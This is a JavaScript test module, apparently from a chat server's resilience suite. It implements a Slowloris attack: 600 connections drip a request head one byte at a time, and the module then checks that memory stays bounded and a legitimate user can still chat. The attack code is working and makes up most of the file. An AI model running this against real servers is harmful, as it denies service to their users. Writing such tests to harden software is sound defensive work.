// Slowloris: connections that send their request head a byte at a time and never finish
// it, against the chat app. Each holds a connection slot (bounded per address and in all)
// and a small read buffer until hyper's 30 s header timeout; the server's memory stays
// flat and a user at another address connects, joins and chats meanwhile.
import net from "node:net";
import { pause, chatsOnce } from "../lib/raw.js";

const CONNECTIONS = 600;
const ADDRESSES = 20;
const HOLD_MS = 5000;

export default {
  name: "http-slow-headers",
  sends: `${CONNECTIONS} connections from ${ADDRESSES} addresses, each sending its request head one byte every 0.5 s for ${HOLD_MS / 1000} s`,
  target: "chat",
  bounds: { rssGrowthMiB: 100, threads: 40, legitMs: 15000 },
  timeoutMs: 40000,
  async attack(ctx) {
    const { hostname, port } = new URL(ctx.url);
    const head = Buffer.from(`GET /socket/websocket?vsn=2.0.0 HTTP/1.1\r\nHost: ${hostname}\r\nX-Slow: ${"z".repeat(200)}`);
    const sockets = await Promise.all(
      Array.from(
        { length: CONNECTIONS },
        (_, i) =>
          new Promise((resolve) => {
            const socket = net.connect({ host: hostname, port: Number(port), localAddress: ctx.addr(i % ADDRESSES) });
            socket.on("error", () => {});
            socket.once("connect", () => resolve(socket));
            socket.once("close", () => resolve(socket));
          }),
      ),
    );
    const started = Date.now();
    let at = 0;
    while (Date.now() - started < HOLD_MS && !ctx.signal.aborted) {
      for (const socket of sockets) if (!socket.destroyed) socket.write(head.subarray(at % head.length, (at % head.length) + 1));
      at++;
      await pause(500, ctx.signal);
    }
    const alive = sockets.filter((s) => !s.destroyed).length;
    ctx.log(`${alive} of ${CONNECTIONS} still open (and unanswered) after ${HOLD_MS / 1000} s; hyper closes them at 30 s`);
    for (const socket of sockets) socket.destroy();
  },
  legit: (ctx) => chatsOnce(ctx, { localAddress: ctx.addr(240) }),
};
